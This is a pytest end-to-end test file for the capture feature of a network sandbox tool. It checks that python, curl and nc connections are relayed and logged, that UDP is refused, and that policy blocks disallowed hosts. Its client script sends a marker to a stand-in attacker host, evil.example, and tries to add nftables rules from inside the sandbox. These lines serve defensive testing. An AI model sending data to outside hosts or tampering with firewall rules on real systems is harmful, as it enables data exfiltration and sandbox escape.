"""Capture (docs/architecture.md "Capture"), in the test world, as root and as
an unprivileged user: programs that ignore the proxy settings (none are set)
connect to an address as they would anywhere, and the connection reaches the
broker through the capture door: decided, dialled, relayed and recorded with
the address the program asked for. What is not TCP is refused, and the
program cannot change the rules. Several clients share one vpnw run per user
and mode, each reporting one JSON line, so the module stays lean.
"""
from __future__ import annotations

import json
import shutil

import pytest

from e2e_support import assert_every_connection_accounted, describe, run_events
from world import DEFAULT_NAMES, WORLD_V4

pytestmark = pytest.mark.world
GITHUB = DEFAULT_NAMES["api.github.com"][0]          # the whoami server, port 80
EVIL = DEFAULT_NAMES["evil.example"][0]
NO_PROXY_ENV = ["env", "-u", "HTTP_PROXY", "-u", "HTTPS_PROXY", "-u", "ALL_PROXY",
                "-u", "http_proxy", "-u", "https_proxy", "-u", "all_proxy"]

# Each attempt prints {"id": ..., "ok": bool, "error": errno name or None, ...}.
CLIENTS = r"""
import errno, json, socket, subprocess, sys
host, evil, marker = sys.argv[1], sys.argv[2], sys.argv[3]

def say(id, ok, error=None, **more):
    print(json.dumps({"id": id, "ok": ok, "error": error, **more}), flush=True)

def attempt(id, fn):
    try:
        say(id, True, **(fn() or {}))
    except OSError as e:
        say(id, False, errno.errorcode.get(e.errno, str(e)))

def python_get():
    with socket.create_connection((host, 80), timeout=20) as s:
        s.sendall(b"GET /whoami HTTP/1.0\r\nHost: api.github.com\r\n\r\n")
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    return {"seen": json.loads(data.split(b"\r\n\r\n", 1)[1])}

def curl_get():
    out = subprocess.run(["curl", "-sS", "--max-time", "20", "-H", "Host: api.github.com",
                          f"http://{host}/whoami"], capture_output=True, text=True)
    if out.returncode:
        raise OSError(errno.EIO, out.stderr.strip())
    return {"seen": json.loads(out.stdout)}

def nc_get():
    out = subprocess.run(["nc", "-q", "5", "-w", "20", host, "80"], capture_output=True,
                         input=b"GET /whoami HTTP/1.0\r\nHost: api.github.com\r\n\r\n")
    body = out.stdout.split(b"\r\n\r\n", 1)
    if out.returncode or len(body) != 2:
        raise OSError(errno.EIO, out.stderr.decode(errors="replace").strip())
    return {"seen": json.loads(body[1])}

def udp_9999():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.connect((host, 9999))
        s.send(b"x")
        s.send(b"x")     # a refused datagram shows on the second send, if not the first

def evil_get():
    with socket.create_connection((evil, 80), timeout=20) as s:
        s.sendall(f"GET /whoami?{marker} HTTP/1.0\r\nHost: evil.example\r\n\r\n".encode())
        if not s.recv(65536):
            raise OSError(errno.ECONNRESET, "closed without an answer")

for id, fn in (("python", python_get), ("curl", curl_get), ("nc", nc_get), ("udp", udp_9999)):
    attempt(id, fn)
if "--evil" in sys.argv:
    attempt("evil", evil_get)
if "--nft" in sys.argv:
    out = subprocess.run(["nft", "add", "table", "inet", "probe"], capture_output=True, text=True)
    say("nft", out.returncode == 0, out.stderr.strip()[-80:] or None)
"""


def results(stdout: str) -> dict[str, dict]:
    return {r.pop("id"): r for r in map(json.loads, (l for l in stdout.splitlines() if l.startswith("{")))}


@pytest.fixture(scope="module")
def clients(world):
    if shutil.which("nc") is None or shutil.which("nft") is None:
        pytest.skip("capture's tests need nc and nft (scripts/setup installs netcat-openbsd, nftables)")
    return world.file("capture_clients.py", CLIENTS)


def test_control_outside_vpnw(world, clients, user):
    # The same clients in the world itself: every connection works and UDP
    # to the world host is sent; and the same user changes netfilter at will
    # in a scratch network namespace of its own.
    r = world.run(["python3", str(clients), GITHUB, EVIL, "control", "--evil"], user=user)
    got = results(r.stdout)
    for client in ("python", "curl", "nc"):
        assert got[client]["ok"] and got[client]["seen"]["host"] == "api.github.com", describe(r)
    assert got["udp"]["ok"] or got["udp"]["error"] == "ECONNREFUSED", describe(r)
    assert got["evil"]["ok"], describe(r)
    r = world.run(["unshare", "-Urn", "python3", str(clients), GITHUB, EVIL, "control", "--nft"],
                  user=user)
    assert results(r.stdout)["nft"]["ok"], describe(r)


def test_without_capture_nothing_gets_out(world, clients, user):
    r = world.vpnw(["run", "--", *NO_PROXY_ENV, "python3", str(clients), GITHUB, EVIL, "-"],
                   user=user)
    got = results(r.stdout)
    for client in ("python", "nc"):
        assert not got[client]["ok"] and got[client]["error"] in ("ENETUNREACH", "EIO"), describe(r)
    assert got["udp"]["error"] == "ENETUNREACH", describe(r)
    events = run_events(r)
    assert not [e for e in events if e["type"] == "conn.request"]
    assert "capture" not in events[0]["fields"]


def test_trace_captures_every_client(world, clients, user):
    r = world.vpnw(["trace", "--capture", "--", *NO_PROXY_ENV, "python3", str(clients), GITHUB, EVIL,
                    "-", "--nft"], user=user)
    assert r.returncode == 0, describe(r)
    got = results(r.stdout)
    for client in ("python", "curl", "nc"):
        assert got[client]["ok"], (client, describe(r))
        # The server saw the broker's connection, from the world's address.
        assert got[client]["seen"]["peer"] == WORLD_V4, describe(r)
    assert not got["udp"]["ok"] and got["udp"]["error"] in ("EPERM", "ECONNREFUSED"), describe(r)
    assert not got["nft"]["ok"], describe(r)
    events = run_events(r)
    assert events[0]["fields"]["capture"] is True
    ready = next(e for e in events if e["type"] == "sandbox.ready")
    assert ready["fields"]["doors"]["capture"] == 1081
    by_conn = assert_every_connection_accounted(events)
    requests = [evs[0]["fields"] for evs in by_conn.values()]
    assert requests == [{"door": "capture", "kind": "capture", "host": GITHUB, "port": 80}] * 3
    assert f"→ {GITHUB}:80  capture" in r.stderr


def test_guard_allows_and_denies_captured_connections(world, clients, user):
    policy = world.file(f"capture-{user}.toml",
                        f'version = 1\n[policy]\ncapture = true\nallow = ["{GITHUB}:80"]\n')
    marker = f"capture-evil-{user}"
    r = world.vpnw(["guard", "--policy", str(policy), "--", *NO_PROXY_ENV, "python3", str(clients),
                    GITHUB, EVIL, marker, "--evil"], user=user)
    assert r.returncode == 120, describe(r)
    got = results(r.stdout)
    assert all(got[c]["ok"] for c in ("python", "curl", "nc")), describe(r)
    assert not got["evil"]["ok"] and got["evil"]["error"] in ("ECONNRESET", "EPIPE"), describe(r)
    events = run_events(r)
    assert events[0]["fields"]["capture"] is True    # from the policy
    denied = [e for e in events if e["type"] == "policy.deny"]
    assert len(denied) == 1 and denied[0]["fields"]["enforced"] is True
    request = next(e for e in events if e["type"] == "conn.request" and e["conn"] == denied[0]["conn"])
    assert request["fields"] == {"door": "capture", "kind": "capture", "host": EVIL, "port": 80}
    # Nothing reached evil.example's server.
    assert not [line for line in world.web_log() if marker in line]
